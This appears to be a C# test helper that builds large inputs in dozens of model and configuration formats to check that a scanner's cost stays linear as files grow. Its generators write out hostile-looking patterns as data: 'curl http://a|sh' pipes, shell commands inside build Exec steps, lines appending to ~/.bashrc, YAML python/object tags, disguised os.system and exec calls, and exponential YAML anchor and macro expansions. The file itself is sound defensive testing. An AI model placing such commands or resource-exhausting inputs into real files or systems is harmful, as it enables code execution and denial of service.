// Model files, configurations and code that grow with a number: whoever reads them must not cost more for each byte as they grow.
using System.Buffers.Binary;
using System.Text;
using Assay.Tests.Builders;

namespace Assay.Tests.Attacks;

/// <summary>Makes inputs of about a given size for the readers of graphs, documents and code, each to be costly in a way of its own, under a name that such files have.</summary>
internal static class CostlyModels
{
    /// <summary>The kinds, by name; each gives a name and an input of about so many bytes.</summary>
    public static IReadOnlyDictionary<string, (string Name, Func<int, byte[]> Make)> All { get; } = new Dictionary<string, (string, Func<int, byte[]>)>
    {
        ["json: keys"] = ("a.json", n => Latin("{" + Many(n / 12, i => $"\"k{i:x5}\":1,") + "\"z\":1}")),
        ["json: one key"] = ("a.json", n => Latin("{" + Text(n / 6, "\"a\":1,") + "\"z\":1}")),
        ["json: lists"] = ("a.json", n => Latin("[" + Text(n / 3, "[],") + "1]")),
        ["json: brackets"] = ("a.json", n => Latin(Text(n, "["))),
        ["json: targets"] = ("a.json", n => Latin("[" + Many(n / 25, i => $"{{\"_target_\":\"os.m{i:x5}\"}},") + "1]")),
        ["json: layers"] = ("config.json", n => Latin("{\"class_name\":\"Sequential\",\"config\":{\"layers\":[" + Many(n / 85, i => $"{{\"class_name\":\"Lambda\",\"config\":{{\"name\":\"l{i:x5}\",\"function\":[\"4wEAAAA=\",null,null]}}}},") + "{}]}}")),
        ["json: layers in layers"] = ("config.json", n => Latin(Text(n / 63, "{\"class_name\":\"Sequential\",\"config\":{\"layers\":["))),
        ["json: templates"] = ("tokenizer_config.json", n => Latin("{\"chat_template\":[" + Many(n / 60, i => $"{{\"name\":\"a{i:x5}\",\"template\":\"{{{{ x.__class__ }}}}\"}},") + "{}]}")),
        ["json: words of code"] = ("a.json", n => Latin("[\"" + Text(n / 24, "__import__ os.system eval(") + "\"]")),
        ["json: cells of a notebook"] = ("a.ipynb", n => Latin("{\"cells\":[" + Many(n / 90, i => $"{{\"cell_type\":\"code\",\"metadata\":{{}},\"outputs\":[],\"source\":[\"!ls {i:x5}\\n\"]}},") + "{\"cell_type\":\"raw\",\"metadata\":{},\"source\":[]}],\"metadata\":{},\"nbformat\":4,\"nbformat_minor\":5}")),
        ["yaml: keys"] = ("a.yaml", n => Latin(Many(n / 10, i => $"k{i:x5}: 1\n"))),
        ["yaml: anchors of anchors"] = ("a.yaml", n => Latin("a00000: &a00000 [x,x]\n" + Many(n / 40, i => $"a{i + 1:x5}: &a{i + 1:x5} [*a{i:x5},*a{i:x5}]\n"))),
        ["yaml: merges of one map"] = ("a.yaml", n => Latin("a: &a\n" + Many(n / 30, i => $"  k{i:x5}: v\n") + Many(n / 30, i => $"b{i:x5}:\n  <<: *a\n"))),
        ["yaml: brackets"] = ("a.yaml", n => Latin(Text(n, "["))),
        ["yaml: dashes"] = ("a.yaml", n => Latin(Text(n / 2, "- "))),
        ["yaml: tags"] = ("a.yaml", n => Latin(Many(n / 43, i => $"- !!python/object/apply:os.m{i:x5} [a]\n"))),
        ["yaml: a text of many lines"] = ("a.yaml", n => Latin("a: |\n" + Text(n / 4, "  x\n"))),
        ["xml: attributes"] = ("a.pmml", n => Latin("<PMML version=\"4.4\" " + Many(n / 10, i => $"a{i:x5}=\"\" ") + "/>")),
        ["xml: attributes with values"] = ("a.pmml", n => Latin("<PMML version=\"4.4\" " + Many(n / 20, i => $"a{i:x5}=\"0123456789\" ") + "/>")),
        ["xml: elements in elements"] = ("a.pmml", n => Latin("<PMML version=\"4.4\">" + Text(n / 3, "<a>"))),
        ["xml: elements"] = ("a.pmml", n => Latin("<PMML version=\"4.4\">" + Text(n / 4, "<a/>") + "</PMML>")),
        ["xml: entities"] = ("a.pmml", n => Latin("<!DOCTYPE PMML [" + Many(n / 21, i => $"<!ENTITY e{i:x5} \"x\">") + "]><PMML version=\"4.4\"/>")),
        ["xml: references"] = ("a.pmml", n => Latin("<PMML version=\"4.4\">" + Text(n / 5, "&amp;") + "</PMML>")),
        ["xml: layers"] = ("a.xml", n => Latin("<net name=\"a\" version=\"11\"><layers>" + Many(n / 72, i => $"<layer id=\"{i}\" name=\"l{i:x5}\" type=\"T{i:x5}\" version=\"extension\"/>") + "</layers><edges/></net>")),
        ["xml: commands in values"] = ("a.csproj", n => Latin("<Project>" + Many(n / 48, i => $"<Exec Command=\"-c 'curl -s h{i:x5} | base64'\" />") + "</Project>")),
        ["settings: words of a list"] = ("a.tf", n => Latin("p = [" + Text(n / 16, "\"curl -s a b c\",") + "]")),
        ["settings: lines with quotes"] = ("a.build", n => Latin(Many(n / 40, i => $"run('sh', '-c', 'curl -s h{i:x5} x')\n"))),
        ["settings: commands of a map"] = ("a.yaml", n => Latin(Many(n / 40, i => $"k{i:x5}: sh -c 'curl -s h{i:x5} x'\n"))),
        ["script: code on its lines"] = ("a.sh", n => Latin("#!/bin/sh\n" + Many(n / 30, i => $"python3 -c 'a{i:x5}=1'\n"))),
        ["script: quotes that never end"] = ("a.sh", n => Latin("#!/bin/sh\n" + Text(n / 22, "echo don't ask python\n"))),
        ["script: documents"] = ("a.sh", n => Latin("#!/bin/sh\n" + Text(n / 27, "python3 - <<EOF\na=1\nEOF\n"))),
        ["container: documents"] = ("Dockerfile", n => Latin("FROM a\n" + Text(n / 22, "RUN <<EOF\nls\nEOF\n"))),
        ["report: chunks"] = ("a.rmd", n => Latin("---\ntitle: a\n---\n" + Text(n / 22, "```{bash}\nls -l\n```\n"))),
        ["source: settings that are evaluated"] = ("modeling_a.py", n => Latin("class M:\n    def __init__(self, c):\n" + Many(n / 48, i => $"        a{i:x5} = c.b{i:x5}\n        eval(a{i:x5})\n"))),
        ["source: names of one call"] = ("a.py", n => Latin("import requests\nrequests.post(" + Many(n / 16, i => $"k{i:x5}=a{i:x5},") + ")\n")),
        ["source: askers"] = ("a.py", n => Latin("import acme\n" + Many(n / 24, i => $"acme.f{i:x5}('a/b{i:x5}')\n"))),
        ["script: files that are read by profiles"] = ("a.sh", n => Latin("#!/bin/sh\n" + Many(n / 40, i => $"echo . /tmp/f{i:x5} >> ~/.bashrc\n"))),
        ["script: redirections"] = ("a.sh", n => Latin("#!/bin/sh\necho . /tmp/f >> ~/.bashrc\necho " + Text(n / 3, ">x "))),
        ["source: lines handed on"] = ("a.py", n => Latin(Many(n / 42, i => $"x.run('curl -s h{i:x5} y', cmd='ls')\n"))),
        ["jinja: outputs"] = ("a.jinja", n => Latin(Text(n / 7, "{{ a }}"))),
        ["jinja: blocks in blocks"] = ("a.jinja", n => Latin(Text(n / 16, "{% for a in b %}"))),
        ["jinja: brackets"] = ("a.jinja", n => Latin("{{ " + Text(n, "("))),
        ["jinja: filters"] = ("a.jinja", n => Latin("{{ a" + Text(n / 2, "|b") + " }}")),
        ["jinja: attributes"] = ("a.jinja", n => Latin("{{ a" + Text(n / 2, ".b") + " }}")),
        ["jinja: texts one after the other"] = ("a.jinja", n => Latin("{{ \"a\"" + Text(n / 4, "~\"b\"") + " }}")),
        ["jinja: names of names"] = ("a.jinja", n => Latin(Many(n / 27, i => $"{{% set a{i + 1:x5} = a{i:x5} %}}"))),
        ["jinja: a text that doubles"] = ("a.jinja", n => Latin("{% set a = 'a' %}" + Text(n / 19, "{% set a = a ~ a %}"))),
        ["python: functions that call the one before"] = ("a.py", n => Latin("import os\ndef f00000(x):return os.system(x)\n" + Many(n / 38, i => $"def f{i + 1:x5}(x):return f{i:x5}(x)\n"))),
        ["python: functions that call the one behind"] = ("a.py", n => Latin("import os\n" + Many(n / 38, i => $"def f{i:x5}(x):return f{i + 1:x5}(x)\n") + "f00000('a')\n")),
        ["python: functions that call others"] = ("a.py", n => Latin("import os\n" + Many(n / 40, i => $"def f{i:x5}(x):f{i * 7919 % Math.Max(1, n / 40):x5}(x)\n") + "f00000('a')\n")),
        ["python: names of a function"] = ("a.py", n => Latin("import os\na00000=os.system\n" + Many(n / 14, i => $"a{i + 1:x5}=a{i:x5}\n") + "a00001('a')\n")),
        ["python: classes of classes"] = ("a.py", n => Latin("class C00000:x=1\n" + Many(n / 30, i => $"class C{i + 1:x5}(C{i:x5}):x=1\n"))),
        ["python: calls in calls"] = ("a.py", n => Latin("import os\n" + Text(n / 3, "f(") + Text(n / 3, ")") + "\n")),
        ["python: calls that act"] = ("a.py", n => Latin("import os\n" + Many(n / 20, i => $"os.system('{i:x5}')\n"))),
        ["python: computed attributes"] = ("a.py", n => Latin("import os\n" + Many(n / 36, i => $"getattr(os,'sys'+'tem')('a{i:x5}')\n"))),
        ["python: attributes of self"] = ("a.py", n => Latin("class A:\n def f(self):\n" + Many(n / 23, i => $"  self.a{i:x5}=self.b\n"))),
        ["python: imports"] = ("a.py", n => Latin(Many(n / 14, i => $"import m{i:x5}\n"))),
        ["python: branches"] = ("a.py", n => Latin("import os\n" + Text(n / 20, "if a:x=1\nelse:x=2\n"))),
        ["python: texts that run"] = ("a.py", n => Latin(Text(n / 12, "exec('x=1')\n"))),
        ["python: functions that make texts that run"] = ("a.py", n => Latin("def f(a):\n  r=''\n  for c in a:r+=chr(ord(c)^1)\n  return r\n" + Text(n / 20, "exec(f('aaaaaaaa'))\n"))),
        ["python: characters that no name has"] = ("a.py", n => Encoding.UTF8.GetBytes(Text(n / 3, "\u200b"))),
        ["python: functions of one name"] = ("a.py", n => Latin(Text(n / 17, "def f():\n  g()\n"))),
        ["python: methods"] = ("a.py", n => Latin("class A:\n" + Many(n / 32, i => $" def m{i:x5}(s):s.m{i + 1:x5}()\n"))),
        ["python: names from files beside"] = ("a.py", n => Latin(Many(n / 21, i => $"from .m{i:x5} import a\n") + "exec(a)\n")),
        ["shell: pipes"] = ("a.sh", n => Latin("#!/bin/sh\n" + Text(n / 2, "a|"))),
        ["shell: commands from the network"] = ("a.sh", n => Latin("#!/bin/sh\n" + Text(n / 17, "curl http://a|sh\n"))),
        ["shell: texts that end later"] = ("a.sh", n => Latin("#!/bin/sh\n" + Many(n / 13, i => $"cat <<E{i:x5}\n"))),
        ["shell: variables of variables"] = ("a.sh", n => Latin("#!/bin/sh\n" + Many(n / 16, i => $"A{i + 1:x5}=$A{i:x5}\n"))),
        ["c: names with a text that is left open"] = ("a.cpp", n => Latin(Text(n / 2, "R\""))),
        ["c: macros that double"] = ("a.cpp", n => Latin("#define F(a) a a\nvoid g(){" + Text(n / 6, "F(") + "x" + Text(n / 6, ")") + "}")),
        ["c: macros that are left open"] = ("a.cpp", n => Latin("#define F(a) a a\nvoid g(){" + Text(n / 2, "F("))),
        ["c: macros with many words"] = ("a.cpp", n => Latin("#define F(a) " + Text(n / 8, "a ") + "\nvoid g(){F(" + Text(n / 8, "x ") + ");" + Text(n / 10, "F(x);") + "}")),
        ["c: macros with many parameters"] = ("a.cpp", n => Latin("#define F(" + Many(n / 24, i => $"a{i:x5},") + "z) " + Many(n / 24, i => $"b{i:x5} ") + "\nvoid g(){" + Text(n / 10, "F(1);") + "}")),
        ["c: words that are joined"] = ("a.cpp", n => Latin("#define F(a) " + Text(n / 12, "a##") + "a\nvoid g(){F(" + new string('x', n / 4) + ");" + Text(n / 12, "F(x);") + "}")),
        ["c: words that are quoted"] = ("a.cpp", n => Latin("#define F(a) " + Text(n / 12, " #a") + "\nvoid g(){F(" + new string('x', n / 4) + ");" + Text(n / 12, "F(x);") + "}")),
        ["c: functions of one name"] = ("a.cpp", n => Latin(Text(n / 15, "void f(){f();}\n"))),
        ["c: namespaces in namespaces"] = ("a.cpp", n => Latin(Text(n / 26, "namespace a{") + Text(n / 26, "void f(){}\n"))),
        ["c: names that nobody writes"] = ("a.cpp", n => Latin("#define J(a,b) a##b\nvoid f(){" + Many(n / 22, i => $"J(sys,tem)(\"{i:x5}\");") + "}")),
        ["c: files that are opened"] = ("a.cpp", n => Latin("int f(){" + Text(n / 15, "open(a,b|O_X);") + "}")),
        ["c: a text that grows"] = ("a.cpp", n => Latin("void f(){strcpy(b,\"" + new string('a', n / 8) + "\");" + Text(n / 15, "strcat(b,b);") + "}")),
        ["c: brackets"] = ("a.cpp", n => Latin(Text(n / 2, "({"))),
        ["javascript: escapes that are left open"] = ("a.js", n => Latin("a" + Text(n / 3, "\\u{"))),
        ["javascript: sums"] = ("a.js", n => Latin("x=" + Text(n / 4, "\"a\"+") + "\"b\"")),
        ["javascript: a text that grows"] = ("a.js", n => Latin("x=\"a\";" + Text(n / 7, "x+=\"a\";"))),
        ["javascript: a text that is replaced"] = ("a.js", n => Latin("x=\"" + new string('a', n / 8) + "\";" + Text(n / 26, "y=x.replaceAll(\"a\",x);"))),
        ["javascript: texts that are joined"] = ("a.js", n => Latin("x=\"" + new string('a', n / 8) + "\";l=[" + Text(n / 16, "x,") + "];" + Text(n / 20, "y=l.join(\"\");"))),
        ["javascript: paths that are joined"] = ("a.js", n => Latin("path=require(\"path\");x=\"" + new string('a', n / 8) + "\";" + Text(n / 26, "y=path.join(x,x,x);\n"))),
        ["javascript: a text that is parted"] = ("a.js", n => Latin("x=\"" + new string('a', n / 8) + "\";" + Text(n / 18, "y=x.split(\"\");"))),
        ["javascript: decodings in decodings"] = ("a.js", n => Latin("x=" + Text(n / 6, "atob(") + "\"aa\"" + Text(n / 6, ")"))),
        ["javascript: a list that is handed on"] = ("a.js", n => Latin("l=[" + Text(n / 8, "a,") + "];" + Text(n / 10, "f(l);"))),
        ["javascript: a list with many names"] = ("a.js", n => Latin("l=[" + Text(n / 8, "a,") + "];" + Text(n / 8, "y=l;"))),
        ["javascript: keys"] = ("a.js", n => Latin("l={" + Many(n / 20, i => $"k{i:x5}:1,") + "};" + Text(n / 8, "l.z;"))),
        ["javascript: functions"] = ("a.js", n => Latin(Text(n / 12, "f(){g(a);x=b}"))),
        ["javascript: templates in templates"] = ("a.js", n => Latin(Text(n / 3, "`${"))),
        ["javascript: imports of nothing"] = ("a.js", n => Latin(Text(n / 7, "import "))),
        ["requirements: packages"] = ("requirements.txt", n => Latin(Many(n / 30, i => $"a{i:x5} @ git+http://b.c/d\n"))),
        ["requirements: one line"] = ("requirements.txt", n => Latin(Text(n / 6, "a==1 \\\n"))),
        ["text: addresses"] = ("a.md", n => Latin(Text(n / 13, "http://a.b/c "))),
        ["text: sections"] = ("a.ini", n => Latin(Many(n / 9, i => $"[s{i:x5}]\n"))),
        ["protobuf: nodes"] = ("a.onnx", n => Onnx(g => Each(n / 40, i => g.Message(1, p => p.Text(1, "x").Text(2, "y").Text(3, $"n{i:x5}").Text(4, $"T{i:x5}"))))),
        ["protobuf: tensors of one name"] = ("a.onnx", n => Onnx(g => Each(n / 16, _ => g.Message(5, p => p.Number(1, 1).Number(2, 1).Text(8, "w"))))),
        ["protobuf: tensors elsewhere"] = ("a.onnx", n => Onnx(g => Each(n / 40, i => g.Message(5, p => p.Number(2, 1).Message(13, e => e.Text(1, "location").Text(2, $"../w{i:x5}")).Number(14, 1))))),
        ["protobuf: graphs in graphs"] = ("a.onnx", n => Onnx(g => g.Bytes(1, Nested(n / 12)))),
        ["protobuf: fields that nobody knows"] = ("a.onnx", n => Onnx(g => Each(n / 4, _ => g.Number(999, 1)))),
        ["protobuf: dimensions"] = ("a.onnx", n => Onnx(g => g.Message(5, p => { Each(n / 2, _ => p.Number(1, 1)); p.Number(2, 1); }))),
        ["protobuf: operators of TensorFlow"] = ("a.pb", n => { ProtobufBuilder graph = new(); Each(n / 30, i => graph.Message(1, p => p.Text(1, $"n{i:x5}").Text(2, $"T{i:x5}"))); return graph.Build(); }),
        ["protobuf text: layers"] = ("a.prototxt", n => Latin(Many(n / 45, i => $"layer {{ name: 'n{i:x5}' type: \"Python{i:x5}\" }}\n"))),
        ["protobuf text: messages in messages"] = ("a.pbtxt", n => Latin("node { name: 'a' op: 'b' " + Text(n / 7, "attr { "))),
        ["flatbuffers: operators"] = ("a.tflite", n => Lite([.. Enumerable.Range(0, n / 60).Select(i => new FlatBuilder((byte)32, $"o{i:x5}", 1, 32))])),
        ["flatbuffers: one table led to again and again"] = ("a.tflite", n => SharedTable(n / 4)),
        ["gguf: keys"] = ("a.gguf", n => { GgufBuilder file = new(); Each(n / 24, i => file.Number($"k{i:x5}", 1)); return file.Build(); }),
        ["gguf: texts"] = ("a.gguf", n => new GgufBuilder().Texts("tokenizer.ggml.tokens", [.. Enumerable.Range(0, n / 9).Select(_ => "a")]).Build()),
        ["gguf: tensors"] = ("a.gguf", n => { GgufBuilder file = new(); Each(n / 46, i => file.Tensor($"t{i:x5}", 0, 0, 1, 1)); return file.Build(64); }),
        ["messagepack: lists in lists"] = ("a.msgpack", n => Bytes([0x81, 0xA1, (byte)'a'], n, 0x91)),
        ["messagepack: entries"] = ("a.msgpack", n => [0xDF, .. Big(n / 8), .. Enumerable.Range(0, n / 8).SelectMany(i => (byte[])[0xA6, .. Encoding.ASCII.GetBytes($"k{i:x5}"), 1])]),
        ["ubjson: objects in objects"] = ("a.ubj", n => Latin("{" + Text(n / 7, "L\0\0\0\0\0\0\0\u0001a{"))),
        ["ubjson: a list of nothing"] = ("a.ubj", n => Latin("{L\0\0\0\0\0\0\0\u0007learner[$Z#L" + "\0\0\0\u007f\u00ff\u00ff\u00ff\u00ff" + Text(n, "a"))),
        ["java: arrays in arrays"] = ("a.ser", n => Latin("\u00ac\u00ed\0\u0005" + Text(n / 23, "ur\0\u0002[[\0\0\0\0\0\0\0\0\u0002\0\0xp\0\0\0\u0001") + "p")),
        ["java: references"] = ("a.ser", n => Latin("\u00ac\u00ed\0\u0005t\0\u0001a" + Text(n / 5, "q\0~\0\0"))),
        ["java: texts"] = ("a.ser", n => Latin("\u00ac\u00ed\0\u0005" + Text(n / 4, "t\0\u0001a"))),
        ["r: symbols"] = ("a.rds", n => R(n / 17, i => [.. Big(1), .. Big(9), .. Big(5), .. Encoding.ASCII.GetBytes($"{i:x5}")])),
        ["r: lists in lists"] = ("a.rds", n => [.. Rds, .. Enumerable.Range(0, n / 8).SelectMany(_ => (byte[])[.. Big(19), .. Big(1)])]),
        ["matlab: elements"] = ("a.mat", n => Latin("MATLAB 5.0 MAT-file" + Text(105, " ") + "\0\u0001IM" + Text(n / 8, "\u0006\0\u0004\0\0\0\0\0"))),
        ["npz: arrays"] = ("a.npz", n => { ZipBuilder zip = new(); Each(n / 230, i => zip.Add($"{i:x5}.npy", Npy)); return zip.Build(); }),
        ["zip: modules"] = ("a.zip", n => Members(n, i => $"{i:x5}.py", "import os\nos.system('a')\n")),
        ["zip: configurations"] = ("a.zip", n => Members(n, i => $"{i:x5}.json", "{\"auto_map\":{\"A\":\"m.C\"}}")),
        ["zip: templates"] = ("a.zip", n => Members(n, i => $"{i:x5}.jinja", "{{ a.__class__ }}")),
        ["zip: texts of YAML"] = ("a.zip", n => Members(n, i => $"{i:x5}.yaml", "a: !!python/object:os.b {}\n")),
        ["tar: models of ONNX"] = ("a.tar", n => { TarBuilder tar = new(); byte[] model = Onnx(g => g.Message(1, p => p.Text(4, "Add"))); Each(n / 1024, i => tar.Add($"{i:x5}.onnx", model)); return tar.Build(); }),
        ["zip: data of no kind"] = ("a.zip", n => Members(n, i => $"{i:x5}.raw", "\u0011\u0093\u00e1\u0007abc\u00ff\u00ee\u0001")),
        ["wasm: sections"] = ("a.wasm", n => Latin("\0asm\u0001\0\0\0" + Text(n / 4, "\0\u0002\u0001a"))),
        ["java class: names"] = ("a.class", n => [0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 52, 0xFF, 0xFF, .. Latin(Text(n / 4, "\u0001\0\u0001a"))]),
    };

    private static byte[] Rds => [.. "X\n"u8, .. Big(2), .. Big(0x40202), .. Big(0x20300)];

    private static byte[] Npy => Latin("\u0093NUMPY\u0001\0\u0036\0{'descr':'<f4','fortran_order':False,'shape':(1,)}    \n\0\0\0\0");

    private static byte[] Onnx(Action<ProtobufBuilder> graph) => new ProtobufBuilder().Number(1, 8).Message(7, graph).Message(8, p => p.Number(2, 17)).Build();

    /// <summary>Nodes with a graph as an attribute that holds a node with a graph.</summary>
    private static byte[] Nested(int levels)
    {
        // Written from the inside: at some thousand levels each is still cheap to wrap, and readers end far above.
        byte[] inside = [];
        for (int i = 0; i < Math.Min(levels, 400); i++)
        {
            byte[] graph = new ProtobufBuilder().Bytes(1, inside).Build();
            inside = new ProtobufBuilder().Text(4, "If").Message(5, p => p.Text(1, "g").Number(20, 5).Bytes(6, graph)).Build();
        }

        return [.. inside, .. new ProtobufBuilder().Text(6, Text(Math.Max(0, levels - 400), "a")).Build()];
    }

    private static byte[] Lite(object[] codes) =>
        new FlatBuilder(3u, codes, new object[] { new FlatBuilder(Array.Empty<object>(), Array.Empty<int>(), Array.Empty<int>(), Array.Empty<object>(), "main") }, "a model", new object[] { new FlatBuilder() }).Build("TFL3");

    /// <summary>A vector of operators that all lead to one table, which stands behind it.</summary>
    private static byte[] SharedTable(int count)
    {
        byte[] file = Lite([new FlatBuilder((byte)32, "o", 1, 32)]);
        int root = (int)BinaryPrimitives.ReadUInt32LittleEndian(file);
        int vtable = root - BinaryPrimitives.ReadInt32LittleEndian(file.AsSpan(root));
        int field = root + BinaryPrimitives.ReadUInt16LittleEndian(file.AsSpan(vtable + 6));
        int vector = field + (int)BinaryPrimitives.ReadUInt32LittleEndian(file.AsSpan(field));
        int table = vector + 4 + (int)BinaryPrimitives.ReadUInt32LittleEndian(file.AsSpan(vector + 4));

        // The vector moves behind the end, and a copy of the table's fields with it: offsets lead forwards only.
        int moved = (file.Length + 7) & ~7;
        byte[] all = new byte[moved + 4 + (4 * count) + 64];
        file.CopyTo(all, 0);
        int copy = (moved + 4 + (4 * count) + 7) & ~7;
        BinaryPrimitives.WriteUInt32LittleEndian(all.AsSpan(field), (uint)(moved - field));
        BinaryPrimitives.WriteUInt32LittleEndian(all.AsSpan(moved), (uint)count);
        for (int i = 0; i < count; i++)
        {
            int at = moved + 4 + (4 * i);
            BinaryPrimitives.WriteUInt32LittleEndian(all.AsSpan(at), (uint)(copy - at));
        }

        int from = table - BinaryPrimitives.ReadInt32LittleEndian(file.AsSpan(table));
        BinaryPrimitives.WriteInt32LittleEndian(all.AsSpan(copy), copy - from);
        return all;
    }

    private static byte[] R(int count, Func<int, byte[]> one) => [.. Rds, .. Big(19), .. Big(count), .. Enumerable.Range(0, count).SelectMany(one)];

    private static byte[] Members(int n, Func<int, string> name, string content)
    {
        ZipBuilder zip = new();
        Each(n / (110 + content.Length), i => zip.Add(name(i), Latin(content)));
        return zip.Build();
    }

    private static byte[] Bytes(byte[] head, int count, byte value) => [.. head, .. Enumerable.Repeat(value, count)];

    private static byte[] Big(int number)
    {
        byte[] bytes = new byte[4];
        BinaryPrimitives.WriteInt32BigEndian(bytes, number);
        return bytes;
    }

    private static void Each(int count, Action<int> make)
    {
        for (int i = 0; i < count; i++)
        {
            make(i);
        }
    }

    private static string Many(int count, Func<int, string> row) => string.Concat(Enumerable.Range(0, count).Select(row));

    private static string Text(int count, string piece) => new StringBuilder(count * piece.Length).Insert(0, piece, count).ToString();

    private static byte[] Latin(string text) => Encoding.Latin1.GetBytes(text);
}
